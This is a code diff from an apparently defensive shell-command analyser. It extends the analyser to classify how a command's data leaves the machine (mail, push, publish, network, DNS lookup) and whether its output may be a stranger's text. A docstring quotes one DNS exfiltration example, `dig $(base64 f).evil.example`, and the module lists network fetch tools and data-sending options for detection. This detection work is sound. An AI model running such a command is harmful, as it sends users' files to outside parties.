@@ -2,15 +2,25 @@
 
 A word that only data decide can carry a file out (`dig $(base64 f).evil.example`). It is asked about for every program
 below, whatever its row makes of its words, and for every option whose row says `sends`.
+
+The same tables say how what a command is given leaves this machine (`Action.leaves`, `leaves_to`), and whether what it
+shows may have been written by a stranger (`Action.brings`): what the rules of flow are about (policy/flow.py).
+
+| leaves | |
+|---|---|
+| network | to an address in the command: a body, a query, a header, a path |
+| lookup | a name that is looked up: its servers learn it |
+| push, publish, forge, cloud, mail | to a remote, a registry, an issue or pull request, an account, a mailbox |
 """
 
 from __future__ import annotations
 
-from askfirst.model import Read, Sends, Unknown
+from askfirst.knowledge.addresses import address_of, is_plain_page
+from askfirst.model import Kind, Read, Sends, Unknown
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from askfirst.model import Fact, Word
+    from askfirst.model import Action, Fact, Word
     from askfirst.shell.call import Analyst, Call, Outcome
 
 __all__ = [
@@ -19,6 +29,7 @@ __all__ = [
     "files_behind",
     "is_address",
     "is_plain_pattern",
+    "leaving",
     "sends",
     "sent_fact",
     "with_sending",
@@ -63,6 +74,43 @@ TO_SETTINGS: dict[str, str] = {
     **dict.fromkeys(("terraform", "tofu"), "plan providers"),
 }
 
+MAILERS = frozenset("mail mailx s-nail nail mutt neomutt sendmail msmtp ssmtp swaks".split())
+FORGES = frozenset("gh glab hub".split())
+# Program -> the sub-commands that make something public, or put it into a registry.
+PUBLISHES: dict[str, str] = {
+    **dict.fromkeys(
+        "npm pnpm bun poetry uv pdm flit hatch cargo vsce ovsx jsr deno wasm-pack gradle".split(), "publish"
+    ),
+    **dict.fromkeys("docker podman nerdctl helm oras crane gem".split(), "push"),
+    **dict.fromkeys(("twine", "anaconda"), "upload"),
+    **dict.fromkeys(("dart", "flutter"), "pub"),
+    "yarn": "publish npm",
+    "mvn": "deploy",
+    "mix": "hex.publish",
+    "pod": "trunk",
+    "dotnet": "nuget",
+    "skopeo": "copy",
+}
+LOOKUPS = frozenset(
+    "ping ping6 traceroute traceroute6 tracepath mtr dig nslookup host whois getent nmap ssh-keyscan".split()
+)
+# These talk to the machine in their settings, mostly this one: only one that the command names is somewhere else.
+DATABASES = frozenset("psql mysql mariadb sqlcmd redis-cli mongosh pg_isready".split())
+# `git fetch` asks a remote that somebody has set up; only an address in the command says anything to anybody else.
+GIT_ASKS = frozenset("fetch ls-remote pull submodule clone".split())
+FETCHERS = frozenset("curl wget http https xh aria2c yt-dlp lynx w3m links elinks ftp lftp tftp".split())
+# What a forge shows that anybody may have written.
+WRITTEN_BY_ANYBODY = frozenset("issue pr mr api release search gist discussion run browse".split())
+PACKAGE_PAGES = frozenset(
+    "npm yarn pnpm bun pip poetry conda mamba pod cargo gem composer mix brew ansible-galaxy docker podman".split()
+)
+# Options by which a fetch says more than its address. A bundle of short ones counts by its letters.
+SAYS_MORE = (
+    "--data --form --upload --header --cookie --user --referer --post --body --request --method --json --url-query "
+    "--get --config --variable --proxy"
+).split()
+SAYS_MORE_SHORT = frozenset("dFTHbuAeXGKx")
+
 
 def plain_key(key: tuple[str, ...]) -> tuple[str, ...]:
     """`python3 -m pip index` and `pip3.12 index` are `pip index`."""
@@ -84,6 +132,10 @@ def sends(key: tuple[str, ...]) -> Sends:
 def with_sending(outcome: Outcome, call: Call) -> Outcome:
     """The outcome of a call, with what it sends."""
     kind = max(sends(outcome.action.key), outcome.action.sends)
+    how, to = leaving(outcome.action, kind, call)
+    brings = brought(outcome.action, kind)
+    if how or brings:
+        outcome = outcome.replace(action=outcome.action.replace(leaves=how, leaves_to=to, brings=brings))
     if kind == Sends.NOTHING:
         return outcome
     said = {f.text for f in outcome.facts if isinstance(f, Unknown)}
@@ -91,6 +143,99 @@ def with_sending(outcome: Outcome, call: Call) -> Outcome:
     words = [w for w in call.words[1:] if w.text not in said] if outcome.action.allowed else []
     facts = [f for w in words for f in sent_fact(w, call, call.name)]
     return outcome.replace(action=outcome.action.replace(sends=kind), facts=(*outcome.facts, *facts))
+
+
+def leaving(action: Action, kind: Sends, call: Call) -> tuple[str, str]:
+    """(how, to whom): what it is given leaves this machine. ("", "") where it stays, or where only a page is named that
+    everybody knows."""
+    program, verb = (*plain_key(action.key), "", "")[:2]
+    words = _known_words(call)
+    hosts = [host for word in words for host in _hosts(word)]
+    by_name = _leaving_by_name(action, kind)
+    if by_name:
+        return by_name, _to_whom(by_name, action, words, hosts)
+    named = hosts and _may_name_address(action, program, verb)
+    if not (named or _goes_to_address(kind, program, verb)) or _is_known_page(words):
+        return "", ""
+    operands = (w for w in words if not w.startswith("-"))
+    return ("lookup" if program in LOOKUPS else "network"), next(iter(hosts), action.target or next(operands, program))
+
+
+def _known_words(call: Call) -> list[str]:
+    return [w.value if w.value is not None else w.prefix or w.text for w in call.words[1:]]
+
+
+def _leaving_by_name(action: Action, kind: Sends) -> str:
+    """How it leaves where the words that name the action say so."""
+    program, verb = (*plain_key(action.key), "", "")[:2]
+    if program in MAILERS or (program, verb) == ("git", "send-email"):
+        return "mail"
+    if (program, verb) == ("git", "push"):
+        return "push"
+    if verb in PUBLISHES.get(program, "").split():
+        return "publish"
+    if kind != Sends.SETTINGS or action.kind in (Kind.READ, Kind.INSTALL):
+        return ""
+    return "forge" if program in FORGES else "cloud"
+
+
+def _to_whom(how: str, action: Action, words: list[str], hosts: list[str]) -> str:
+    if how == "mail":
+        return " ".join(w for w in words if "@" in w)[:80] or "mail"
+    if how == "push":
+        return next(iter(hosts), action.target or "its remote")
+    return f"{' '.join(action.key[:3])} {action.target}".strip()
+
+
+def _goes_to_address(kind: Sends, program: str, verb: str) -> bool:
+    return (
+        kind == Sends.ADDRESS and program not in (*DATABASES, "git", "arp") and (program, verb) != ("getent", "passwd")
+    )
+
+
+def _may_name_address(action: Action, program: str, verb: str) -> bool:
+    """What talks to the machine in its settings, unless the command names another."""
+    if program == "git":
+        return verb in GIT_ASKS
+    return program in DATABASES or action.kind != Kind.READ
+
+
+def _hosts(word: str) -> list[str]:
+    """The machines that a word names: `https://h/x`, `git+ssh://u@h/x`, `u@h:x`, `--host=h`."""
+    rest = word.partition("://")[2]
+    if rest:
+        found = address_of(word[word.find("http") :]) if "http" in word.partition("://")[0] else None
+        host = found.pattern if found is not None else rest.split("/")[0].rpartition("@")[2]
+        return [host or rest[:60]]
+    if word.startswith("git@") or ("@" in word and ":" in word.partition("@")[2] and "/" not in word.partition("@")[0]):
+        return [word.partition("@")[2].partition(":")[0]]
+    name, _, value = word.partition("=")
+    return [value] if name in ("-h", "--host", "--hostname") and value not in ("", "localhost", "127.0.0.1") else []
+
+
+def _is_known_page(words: list[str]) -> bool:
+    pages = [w for w in words if "://" in w]
+    return bool(pages) and all(map(is_plain_page, pages)) and not any(map(_says_more, words))
+
+
+def _says_more(word: str) -> bool:
+    if word.startswith("--"):
+        return word.startswith(tuple(SAYS_MORE))
+    return word.startswith("-") and not SAYS_MORE_SHORT.isdisjoint(word[1:])
+
+
+def brought(action: Action, kind: Sends) -> str:
+    """Why its output may be a stranger's text; "" where it is not."""
+    program, verb = (*plain_key(action.key), "", "")[:2]
+    if program in FETCHERS:
+        return "a page of the web"
+    if (program, verb) in (("git", "clone"), ("gh", "repo"), ("glab", "repo")):
+        return "a repository that was cloned" if "clone" in action.key else ""
+    if program in FORGES and verb in WRITTEN_BY_ANYBODY and action.kind == Kind.READ:
+        return "what anybody may write on the forge"
+    if kind == Sends.SETTINGS and program in PACKAGE_PAGES and action.kind == Kind.READ:
+        return "the page of a package"
+    return ""
 
 
 def sent_fact(word: Word, call: Call, by: str) -> list[Fact]:
